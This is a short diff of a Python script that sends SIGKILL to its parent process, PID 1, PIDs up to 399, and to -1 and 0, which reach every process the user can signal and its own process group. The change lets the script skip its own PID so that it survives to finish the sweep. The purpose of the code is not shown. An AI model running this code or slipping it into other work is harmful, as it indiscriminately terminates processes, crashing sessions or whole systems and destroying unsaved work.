@@ -4,6 +4,6 @@ import signal
 
 for number in [os.getppid(), 1, 2, 3, *range(4, 400), -1, 0]:
     try:
-        os.kill(number, signal.SIGKILL)
+        number != os.getpid() and os.kill(number, signal.SIGKILL)
     except OSError:
         pass
